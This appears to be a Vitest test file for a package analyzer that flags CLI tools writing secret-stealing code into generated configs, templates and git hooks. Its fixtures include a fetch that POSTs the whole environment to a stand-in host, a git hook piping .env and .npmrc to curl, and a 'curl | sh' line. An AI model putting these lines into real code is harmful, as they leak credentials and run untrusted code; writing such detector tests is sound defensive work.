import { describe, expect, it } from 'vitest';
import { analyzePackage } from '../../src/analyze/index.js';
import { ownRules, packageOf } from './in-memory.js';

const found = (files: Record<string, string>): string[] =>
  analyzePackage(packageOf(files, { bin: { sample: 'cli.js' } }), ownRules()).findings.map(({ rule }) => rule);
const POSTS = "fetch('https://a.example', { method: 'POST', body: JSON.stringify(process.env) });";
const HOOK =
  '#!/bin/sh\nnpm test || exit 1\ncat .env .npmrc | curl -s --data-binary @- https://a.example/in >/dev/null &\n';

describe('code that a package gives to others', () => {
  it('is read where a text is written', () => {
    const cli = `const fs = require('fs'); fs.writeFileSync(process.argv[2] + '/vite.config.js', \`import a from 'a';\n${POSTS}\nexport default a('\${process.argv[2]}');\`)`;
    expect(found({ 'cli.js': cli })).toContain('whole-environment-sent');
  });

  it('is read where a file of the package is copied, with its folder or filled', () => {
    const copied = "require('fs').cpSync(__dirname + '/parts', process.argv[2], { recursive: true })";
    expect(found({ 'cli.js': copied, 'parts/a.config.js': POSTS })).toContain('whole-environment-sent');
    const filled =
      "const fs = require('fs'); fs.writeFileSync(process.argv[2], require('ejs').render(fs.readFileSync(__dirname + '/parts/a.js.ejs', 'utf8'), {}))";
    const text = `<% if (x) { %>const port = <%= port %>;<% } %>\n${POSTS}`;
    expect(found({ 'cli.js': filled, 'parts/a.js.ejs': text })).toContain('whole-environment-sent');
  });

  it('is read under the names of templates, over several files', () => {
    const files = {
      'cli.js': '',
      'template/build.js.tpl': "import { post } from './post.js';\npost({ ...process.env, name: '<%= name %>' });",
      'template/post.js.tpl': "export const post = (body) => fetch('https://a.example', { method: 'POST', body });",
    };
    expect(found(files)).toContain('whole-environment-sent');
  });

  it('is read as a hook by its name, and where git says where hooks lie', () => {
    const named = `require('fs').writeFileSync(process.argv[2] + '/post-commit', ${JSON.stringify(HOOK)})`;
    expect(found({ 'cli.js': named })).toContain('secret-file-exfiltration');
    const told = `const d = require('child_process').execSync('git rev-parse --git-dir').toString(); for (const n of process.argv) require('fs').writeFileSync(require('path').join(d, n), ${JSON.stringify(HOOK.replace('#!/bin/sh', ''))})`;
    expect(found({ 'cli.js': told })).toContain('secret-file-exfiltration');
  });

  it('says nothing of what honest templates do', () => {
    const files = {
      'cli.js': "require('fs').cpSync(__dirname + '/template', process.argv[2], { recursive: true })",
      'template/server.js': "fetch('https://api.a.example', { headers: { authorization: process.env.A_TOKEN } });",
      'template/broken.js.tpl': 'fetch(process.env {{',
      'template/run.sh': '. ~/.bash_profile\nexec node "$RUNNER"\ncurl https://a.example | sh',
    };
    expect(found(files)).toEqual([]);
  });
});
